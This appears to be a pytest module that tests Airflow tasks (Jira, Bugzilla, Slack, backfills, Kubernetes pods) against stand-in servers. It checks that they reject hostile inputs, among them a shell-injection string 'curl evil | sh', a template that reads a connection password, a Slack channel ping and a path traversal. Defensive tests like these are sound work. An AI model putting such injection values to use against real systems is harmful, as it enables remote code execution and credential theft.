"""What tasks do besides running a pod, on the stand-ins: each is run as a worker runs it, with what fails and what is hostile.

| behaviour | run here on | fails | hostile |
|---|---|---|---|
| waiting without a slot | the trigger itself | a trigger that fails | no time to wait |
| branch by weekday | the task runner | a branch that names no task | a run without a date |
| skip while newer runs are queued | the execution API | an API that refuses | an answer that is no number, a parameter |
| Jira ticket | Jira | Jira refuses | a run id that is a template |
| Bugzilla | Bugzilla | a limit of its rate, a refusal | a search that gives what has a whiteboard |
| Slack post | Slack | Slack refuses | a watcher who is a channel |
| mapped backfill entries | pod server, Slack | a cluster that refuses | an entry with a shell line |
| templated resources | pod server | an amount that is none | a parameter that is a shell line |
| Variables when the task runs | pod server | a Variable that is missing | a value that is a shell line |
| `backfill` | Airflow's REST API | an unknown DAG, a refusal | a regular expression that is a shell line |
"""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from airflow.providers.standard.operators.empty import EmptyOperator
from airflow.providers.standard.operators.python import BranchPythonOperator, PythonOperator
from airflow.sdk import DAG
from airflow.sdk._shared.secrets_masker import reset_secrets_masker
from airflow.sdk.module_loading import import_string
from airflow.sdk.serde import deserialize
from airflow.triggers.base import TaskSuccessEvent
from kubernetes.client import V1ResourceRequirements

from operators.bugzilla import BugzillaTagBugsOperator
from operators.gcp_container_operator import GKEPodOperator
from operators.jira import JiraTicketNotifier
from operators.slack import slack_post
from operators.waiting import wait
from tests.dags.stand_ins import Cluster, StandIns
from tests.dags.worker import Result, Worker
from tests.operators.airflow_api import DATES, Airflow, run_id
from utils.branching import Weekday, WeekdayBranch
from utils.config import CONNECTIONS
from utils.images import image

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.loopback

SHELL_LINE = "x; curl evil | sh #"
ENTRY = {
    "qualified_table_name": "mozdata.orchard_derived.days_v1",
    "staging_table": "moz-fx-data-shared-prod.backfills_staging_derived.orchard_derived__days_v1_2026_06_01",
    "backup_table": "moz-fx-data-shared-prod.backfills_staging_derived.orchard_derived__days_v1_backup_2026_06_01",
    "watchers": ["gardener@example.com"],
}


@pytest.fixture(autouse=True)
def _settings(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The worker tells the API its host's name; finding that out asks the network.

    What it took for secret is masked in all that this process logs, so it is forgotten at the end.
    """
    monkeypatch.setenv("AIRFLOW__CORE__HOSTNAME_CALLABLE", "platform.node")
    yield
    reset_secrets_masker()


@pytest.fixture
def stand_ins(tmp_path: Path) -> Iterator[StandIns]:
    servers = StandIns(tmp_path, Airflow())
    with servers.listening():
        yield servers


@pytest.fixture
def worker(stand_ins: StandIns) -> Worker:
    return Worker(connections=stand_ins.connections)


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    server = Cluster(tmp_path_factory.mktemp("cluster"))
    try:
        server.await_start()
        yield server
    finally:
        server.stop()


@pytest.fixture
def pod_worker(cluster: Cluster, worker: Worker) -> Worker:
    """A worker whose pods run on the pod server."""
    worker.connections[CONNECTIONS.gke] = cluster.connection()
    return worker


def arguments_of(result: Result) -> dict[str, Any]:
    """The arguments of the trigger of a deferral, as the triggerer reads them."""
    arguments: Any = deserialize(result.sent["trigger_kwargs"])
    return dict(arguments)


def fired(result: Result) -> Any:
    """What the trigger of a deferral fires."""

    async def first() -> Any:
        trigger = import_string(result.sent["classpath"])(**arguments_of(result))
        return await anext(trigger.run())

    return asyncio.run(first())


# Waiting


def test_a_wait_gives_its_slot_back_and_goes_on_when_the_time_has_come(dags: dict[str, DAG], worker: Worker) -> None:
    task: Any = dags["probe_scraper"].get_task("wait_for_1_hour")
    assert task.deferrable is True, "it would sleep for an hour here too"
    start = datetime.now(UTC)
    deferred = worker.run(dags["probe_scraper"], "wait_for_1_hour")
    assert deferred.state == "deferred"
    moment = arguments_of(deferred)["moment"]
    assert start + timedelta(hours=1) <= moment <= datetime.now(UTC) + timedelta(hours=1)

    with DAG("d", schedule=None) as dag:
        wait("a_moment", timedelta(microseconds=1))
    short = worker.run(dag, "a_moment")
    assert short.state == "deferred"
    assert isinstance(fired(short), TaskSuccessEvent), "it ends in the triggerer, without a slot at the end either"


def test_a_wait_whose_trigger_fails_fails(dags: dict[str, DAG], worker: Worker) -> None:
    deferred = Result("deferred", None, {"next_method": "__fail__", "next_kwargs": {"error": "Trigger failure"}})
    again = worker.run(dags["probe_scraper"], "wait_for_1_hour", resume=deferred, last_try=False)
    assert again.state == "up_for_retry"
    assert worker.run(dags["probe_scraper"], "wait_for_1_hour", resume=deferred).state == "failed"


@pytest.mark.parametrize("time", [timedelta(0), timedelta(hours=-1)])
def test_no_time_is_nothing_to_wait(time: timedelta) -> None:
    with pytest.raises(ValueError, match=r"wait_for_it: .* is no time to wait"):
        wait("wait_for_it", time)


# Branches

CHECKS = {"probe_scraper_check_expiry", "probe_scraper_check_fog_expiry", "dummy_branch"}


@pytest.mark.parametrize(
    ("day", "followed"),
    [(1, "probe_scraper_check_expiry"), (3, "probe_scraper_check_fog_expiry"), (4, "dummy_branch")],
)
def test_the_other_weekdays_tasks_are_skipped(dags: dict[str, DAG], worker: Worker, day: int, followed: str) -> None:
    result = worker.run(dags["probe_scraper"], "probe_scraper_check_branch", date=datetime(2026, 6, day, tzinfo=UTC))
    assert (result.state, set(result.skipped)) == ("success", CHECKS - {followed})


def test_a_run_without_a_date_goes_by_its_start(dags: dict[str, DAG], worker: Worker) -> None:
    result = worker.run(dags["probe_scraper"], "probe_scraper_check_branch", date=None)
    assert (result.state, set(result.skipped)) == ("success", CHECKS - {"probe_scraper_check_expiry"})


def test_a_branch_that_names_no_task_skips_none(worker: Worker) -> None:
    with DAG("d", schedule=None) as dag:
        branch = WeekdayBranch(tasks={Weekday.monday: "on_mondays"}, otherwise="else")
        BranchPythonOperator(task_id="branch", python_callable=branch) >> EmptyOperator(task_id="else")
    result = worker.run(dag, "branch")
    assert (result.state, result.skipped) == ("failed", [])
    assert "on_mondays" in str(result.error)


# Newer runs

SKIP = "skip_if_queued_runs_exist"


@pytest.mark.parametrize(("queued", "skipped"), [(0, []), (2, ["dryrun"])])
def test_a_run_is_skipped_while_newer_ones_are_queued(
    dags: dict[str, DAG], worker: Worker, queued: int, skipped: list[str]
) -> None:
    worker.queued["bqetl_dryrun"] = queued
    result = worker.run(dags["bqetl_dryrun"], SKIP)
    assert (result.state, result.skipped) == ("success", skipped)
    ((_, _, query, _),) = [asked for asked in worker.asked if asked[1] == "/dag-runs/count"]
    assert query == {"dag_id": "bqetl_dryrun", "states": "queued"}


def test_a_run_that_generates_sql_is_not_skipped(dags: dict[str, DAG], worker: Worker) -> None:
    worker.queued["bqetl_artifact_deployment"] = 2
    deployment = dags["bqetl_artifact_deployment"]
    assert worker.run(deployment, SKIP, params={"generate_sql": True}).skipped == []
    assert len(worker.run(deployment, SKIP).skipped) == len(deployment.task_ids) - 1


@pytest.mark.parametrize("answer", [None, "many", {"count": 1}])
def test_where_runs_cannot_be_counted_nothing_is_skipped(dags: dict[str, DAG], worker: Worker, answer: Any) -> None:
    worker.queued["bqetl_dryrun"] = answer
    result = worker.run(dags["bqetl_dryrun"], SKIP)
    assert (result.state, result.skipped) == ("failed", [])


def test_a_hostile_parameter_decides_nothing(dags: dict[str, DAG], worker: Worker) -> None:
    worker.queued["bqetl_artifact_deployment"] = 2
    result = worker.run(dags["bqetl_artifact_deployment"], SKIP, params={"generate_sql": SHELL_LINE})
    assert (result.state, result.skipped) == ("failed", [])


# Jira


def failing(**differing: Any) -> DAG:
    """A DAG whose task fails, with the tickets of the ``eam`` DAGs."""

    def fail() -> None:
        raise ValueError("no rows")

    notifier = JiraTicketNotifier(project="ASP", issue_type="10020", **differing)
    with DAG("orchard", schedule=None, default_args={"on_failure_callback": notifier}) as dag:
        PythonOperator(task_id="pick", python_callable=fail)
    return dag


def test_the_eam_dags_have_these_tickets(dags: dict[str, DAG]) -> None:
    task: Any = dags["eam-slack-channels-integration"].get_task("eam_slack_channels")
    (notifier,) = task.on_failure_callback
    assert isinstance(notifier, JiraTicketNotifier)
    assert (notifier.project, notifier.issue_type) == ("ASP", "10020")


def test_a_ticket_is_opened_when_a_task_has_failed_for_good(worker: Worker, stand_ins: StandIns) -> None:
    assert worker.run(failing(), "pick", last_try=False).state == "up_for_retry"
    assert stand_ins.sent("jira") == []
    assert worker.run(failing(), "pick").state == "failed"
    (ticket,) = stand_ins.sent("jira")
    assert (ticket.recipients, ticket.subject) == (("ASP-1",), "[Airflow] orchard.pick failed")
    assert "failed in the run a-run, try 1" in ticket.text


def test_jira_that_refuses_changes_nothing_of_the_task(worker: Worker, stand_ins: StandIns) -> None:
    worker.connections[CONNECTIONS.jira] |= {"login": None, "password": None}
    result = worker.run(failing(), "pick")
    assert (result.state, str(result.error)) == ("failed", "no rows")
    assert ("POST", "/jira/rest/api/2/issue") in stand_ins.asked
    assert stand_ins.sent("jira") == []


def test_what_a_run_is_called_is_text_in_a_ticket(worker: Worker, stand_ins: StandIns) -> None:
    worker.run(failing(), "pick", run_id="{{ conn.eam_jira_connection_id.password }}'\"")
    (ticket,) = stand_ins.sent("jira")
    assert "in the run {{ conn.eam_jira_connection_id.password }}'\", try 1" in ticket.text


# Bugzilla


def tagging(stand_ins: StandIns, dag: DAG) -> DAG:
    """The DAG's task, on the stand-in."""
    task: Any = dag.get_task("tag_bugs_with_dataplatform")
    with DAG("bugzilla", schedule=None) as made:
        BugzillaTagBugsOperator(
            task_id=task.task_id,
            product=task.product,
            component=task.component,
            whiteboard=task.whiteboard,
            api_key=task.api_key,
            pause=0,
            base_url=f"{stand_ins.url}/bugzilla",
        )
    return made


def test_bugs_are_tagged_with_the_key_of_the_variable(
    dags: dict[str, DAG], worker: Worker, stand_ins: StandIns
) -> None:
    dag = tagging(stand_ins, dags["bugzilla"])
    assert worker.run(dag, "tag_bugs_with_dataplatform").state == "failed", "no Variable, no key"
    assert stand_ins.asked == []
    worker.variables["bugzilla_probe_expiry_bot_api_key"] = "a-key-of-these-tests"
    stand_ins.hooks.bugs |= {3: "[mine]"}
    assert worker.run(dag, "tag_bugs_with_dataplatform").state == "success"
    assert stand_ins.hooks.bugs == {1: "[dataplatform]", 2: "[dataplatform]", 3: "[mine]"}
    assert worker.xcoms["tag_bugs_with_dataplatform"] == [[2, 1]]


def test_a_limit_of_bugzillas_rate_is_waited_for(dags: dict[str, DAG], worker: Worker, stand_ins: StandIns) -> None:
    worker.variables["bugzilla_probe_expiry_bot_api_key"] = "a-key-of-these-tests"
    stand_ins.troubles["/bugzilla/rest/bug/2"] = [(429, {}), (503, {"Retry-After": "0"})]
    assert worker.run(tagging(stand_ins, dags["bugzilla"]), "tag_bugs_with_dataplatform").state == "success"
    assert stand_ins.asked.count(("PUT", "/bugzilla/rest/bug/2")) == 3
    assert stand_ins.hooks.bugs == {1: "[dataplatform]", 2: "[dataplatform]"}


def test_bugzilla_that_refuses_a_change_fails_the_task_after_the_others(
    dags: dict[str, DAG], worker: Worker, stand_ins: StandIns
) -> None:
    worker.variables["bugzilla_probe_expiry_bot_api_key"] = "a-key-of-these-tests"
    stand_ins.troubles["/bugzilla/rest/bug/2"] = [(401, {})]
    result = worker.run(tagging(stand_ins, dags["bugzilla"]), "tag_bugs_with_dataplatform", last_try=False)
    assert (result.state, stand_ins.hooks.bugs) == ("up_for_retry", {1: "[dataplatform]", 2: ""})
    assert "1 of 2 bugs were not changed. Bug 2: 401 busy" in str(result.error)


# Slack, and the entries of backfills that are mapped


def entries(worker: Worker, *given: dict[str, Any]) -> None:
    """What ``detect_backfills`` has found."""
    worker.xcoms["detect_backfills"] = [list(given)]
    worker.entries = len(given)


def test_a_post_is_the_platforms(dags: dict[str, DAG], worker: Worker, stand_ins: StandIns) -> None:
    entries(worker, ENTRY)
    dag = dags["bqetl_backfill_initiate"]
    for task_id in ("prepare_slack_initiate_message", "slack_notify_initate"):
        assert worker.run(dag, f"initiate_backfill.{task_id}", map_index=0).state == "success"
    (post,) = stand_ins.sent("slack")
    assert (post.recipients, post.sender) == (("#dataops-alerts",), "airflow-bot")
    assert post.text.startswith(
        "<@gardener> :hourglass_flowing_sand: The backfill of `mozdata.orchard_derived.days_v1`"
    )


def test_a_post_that_slack_refuses_fails_the_task(worker: Worker, stand_ins: StandIns) -> None:
    with DAG("d", schedule=None) as dag:
        slack_post("nowhere", "text", channel="")
    result = worker.run(dag, "nowhere", last_try=False)
    assert (result.state, stand_ins.sent("slack")) == ("up_for_retry", [])
    assert "channel_not_found" in str(result.error)


def test_an_entry_calls_no_channel(dags: dict[str, DAG], worker: Worker, stand_ins: StandIns) -> None:
    entries(worker, ENTRY | {"watchers": ["x> <!channel>@example.com"]})
    task_id = "initiate_backfill.prepare_slack_initiate_message"
    result = worker.run(dags["bqetl_backfill_initiate"], task_id, map_index=0, last_try=False)
    assert result.state == "failed", "another try would give the same"
    assert "watcher=" in str(result.error)


def test_each_entry_has_its_own_pod(dags: dict[str, DAG], pod_worker: Worker, cluster: Cluster) -> None:
    dag = dags["bqetl_backfill_initiate"]
    entries(pod_worker, ENTRY, ENTRY | {"qualified_table_name": "mozdata.orchard_derived.weeks_v1"})
    for index in (0, 1):
        for task_id, state in (("prepare_pod_parameters", "success"), ("process_backfill", "deferred")):
            assert pod_worker.run(dag, f"initiate_backfill.{task_id}", map_index=index, run_id="mapped").state == state
    commands = [pod.spec.containers[0].command + pod.spec.containers[0].args for pod in cluster.pods("mapped")]
    flags = "--copy-table-permissions --project-id=mozdata --parallelism=6"
    assert sorted(commands) == [
        ["sh", "-c", f"script/bqetl backfill initiate mozdata.orchard_derived.{table}_v1 {flags}"]
        for table in ("days", "weeks")
    ]


def test_a_hostile_entry_gets_no_pod(dags: dict[str, DAG], pod_worker: Worker, cluster: Cluster) -> None:
    dag = dags["bqetl_backfill_initiate"]
    entries(pod_worker, ENTRY | {"qualified_table_name": f"mozdata.d.{SHELL_LINE}"})
    prepared = pod_worker.run(
        dag, "initiate_backfill.prepare_pod_parameters", map_index=0, run_id="hostile", last_try=False
    )
    assert prepared.state == "failed"
    assert "qualified_table_name=" in str(prepared.error)
    assert dag.get_task("initiate_backfill.process_backfill").trigger_rule == "all_success"
    assert cluster.pods("hostile") == []


def test_an_entry_that_fails_is_posted_with_what_to_delete(
    dags: dict[str, DAG], worker: Worker, cluster: Cluster, stand_ins: StandIns
) -> None:
    dag = dags["bqetl_backfill_initiate"]
    worker.connections[CONNECTIONS.gke] = cluster.connection(token="of somebody else")
    entries(worker, ENTRY)
    for task_id in ("prepare_slack_failure_message", "prepare_pod_parameters"):
        assert worker.run(dag, f"initiate_backfill.{task_id}", map_index=0).state == "success"
    assert worker.run(dag, "initiate_backfill.process_backfill", map_index=0).state == "failed"
    (post,) = stand_ins.sent("slack")
    assert post.text.startswith("<@gardener> :x: The backfill of `mozdata.orchard_derived.days_v1` failed.")
    assert f"delete `{ENTRY['staging_table']}`" in post.text


# Resources, and Variables


@pytest.mark.parametrize(
    ("generate_sql", "requests"), [(True, {"memory": "6Gi", "cpu": "4"}), (False, {"memory": "2Gi", "cpu": "1"})]
)
def test_a_pod_asks_for_what_its_parameters_need(
    dags: dict[str, DAG], pod_worker: Worker, cluster: Cluster, generate_sql: bool, requests: dict[str, str]
) -> None:
    run = f"resources-{generate_sql}"
    dag, params = dags["bqetl_artifact_initialize"], {"generate_sql": generate_sql}
    assert pod_worker.run(dag, "query_initialize", params=params, run_id=run).state == "deferred"
    (pod,) = cluster.pods(run)
    assert pod.spec.containers[0].resources.requests == requests
    assert pod.spec.containers[0].args[0].startswith("script/bqetl generate all") is generate_sql


@pytest.mark.parametrize("amount", ["lots", SHELL_LINE])
def test_an_amount_that_is_none_gets_no_pod(pod_worker: Worker, cluster: Cluster, amount: str) -> None:
    with DAG("d", schedule=None, params={"memory": "1Gi"}) as dag:
        needs = V1ResourceRequirements(requests={"memory": "{{ params.memory }}"})
        GKEPodOperator(task_id="pod", image=image("jetstream"), arguments=["x"], container_resources=needs)
    run = f"amount-{len(amount)}"
    assert pod_worker.run(dag, "pod", run_id=run).state == "deferred"
    assert len(cluster.pods(run)) == 1
    result = pod_worker.run(dag, "pod", params={"memory": amount}, run_id=f"no-{run}")
    assert (result.state, cluster.pods(f"no-{run}")) == ("failed", [])


@pytest.mark.parametrize("hostile", [SHELL_LINE, "True", 1])
def test_a_hostile_parameter_sizes_no_pod(
    dags: dict[str, DAG], pod_worker: Worker, cluster: Cluster, hostile: Any
) -> None:
    result = pod_worker.run(
        dags["bqetl_artifact_initialize"], "query_initialize", params={"generate_sql": hostile}, run_id="hostile-size"
    )
    assert (result.state, cluster.pods("hostile-size")) == ("failed", [])
    assert "generate_sql" in str(result.error) or "not of type 'boolean'" in str(result.error)


KEYS = ("auth_token", "hpke_private_key", "task_config_url")


def test_a_variable_is_read_when_the_task_runs(dags: dict[str, DAG], pod_worker: Worker, cluster: Cluster) -> None:
    """Also what is a shell line then is one argument: no shell reads it."""
    for value in ("a-value-of-these-tests", SHELL_LINE):
        pod_worker.variables |= {f"dap_{key}": value for key in KEYS}
        run = f"variable-{len(value)}"
        assert pod_worker.run(dags["dap_collector"], "dap_collector", run_id=run).state == "deferred"
        (pod,) = cluster.pods(run)
        assert not pod.spec.containers[0].command
        assert pod.spec.containers[0].args == [
            *("python", "dap_collector/main.py", "--date=2026-06-01"),
            *(f"--{key.replace('_', '-')}={value}" for key in KEYS),
            *("--project", "moz-fx-data-shared-prod", "--table-id", "dap_collector_derived.aggregates_v1"),
        ]


def test_a_variable_that_is_missing_fails_the_task(dags: dict[str, DAG], pod_worker: Worker, cluster: Cluster) -> None:
    pod_worker.variables |= {f"dap_{key}": "a-value-of-these-tests" for key in KEYS[1:]}
    result = pod_worker.run(dags["dap_collector"], "dap_collector", run_id="no-variable", last_try=False)
    assert (result.state, cluster.pods("no-variable")) == ("up_for_retry", [])
    assert "dap_auth_token" in str(result.error)


# The DAG backfill

ASKED = {"dag_name": "orchard", "start_date": "2026-06-01", "end_date": "2026-06-02", "clear": True, "dry_run": False}


def test_what_is_asked_for_is_cleared_and_followed(
    dags: dict[str, DAG], worker: Worker, stand_ins: StandIns, monkeypatch: pytest.MonkeyPatch
) -> None:
    params = ASKED | {"task_regex": "^press"}
    assert worker.run(dags["backfill"], "execute_backfill", params=params | {"dry_run": True}).state == "success"
    (listed,) = worker.xcoms.pop("execute_backfill")
    assert stand_ins.airflow.changed == []
    assert worker.run(dags["backfill"], "execute_backfill", params=params).state == "success"
    (record,) = worker.xcoms["execute_backfill"]
    assert record["done"] == record["planned"] == listed["planned"]
    runs = [run_id(date) for date in DATES[:2]]
    assert record["runs"] == runs
    assert [body["dag_run_id"] for _, body in stand_ins.airflow.changed] == runs

    stand_ins.airflow.states = dict.fromkeys(runs, "running")
    assert worker.run(dags["backfill"], "follow_backfill", params=params).state == "up_for_reschedule"
    stand_ins.airflow.states = dict.fromkeys(runs, "success")
    assert worker.run(dags["backfill"], "follow_backfill", params=params).state == "success"
    stand_ins.airflow.states = dict.fromkeys(runs, "failed")
    assert worker.run(dags["backfill"], "follow_backfill", params=params, last_try=False).state == "failed"


def test_missing_runs_are_made(dags: dict[str, DAG], worker: Worker, stand_ins: StandIns) -> None:
    stand_ins.airflow.missing = DATES[1:]
    assert worker.run(dags["backfill"], "execute_backfill", params=ASKED | {"clear": False}).state == "success"
    (record,) = worker.xcoms["execute_backfill"]
    assert record["runs"] == [f"backfill__{DATES[1]}"]


@pytest.mark.parametrize(
    ("differing", "message"),
    [
        ({"dag_name": "orchad"}, "there is no such DAG"),
        ({"start_date": "2026-06-03"}, "is after end_date"),
        ({"task_regex": "press("}, "is no regular expression"),
        ({"task_regex": SHELL_LINE}, "task_regex"),
        ({"dag_name": "../../connections"}, "dag_name"),
    ],
)
def test_what_is_no_request_changes_nothing(
    dags: dict[str, DAG], worker: Worker, stand_ins: StandIns, differing: dict[str, Any], message: str
) -> None:
    result = worker.run(dags["backfill"], "execute_backfill", params=ASKED | differing)
    assert (result.state, stand_ins.airflow.changed) == ("failed", [])
    assert message in str(result.error)


def test_an_api_that_refuses_fails_it_without_a_retry(
    dags: dict[str, DAG], worker: Worker, stand_ins: StandIns
) -> None:
    stand_ins.airflow.refuses["clearTaskInstances"] = (409, "Task is running")
    result = worker.run(dags["backfill"], "execute_backfill", params=ASKED, last_try=False)
    assert result.state == "failed"
    assert "409 Task is running" in str(result.error)
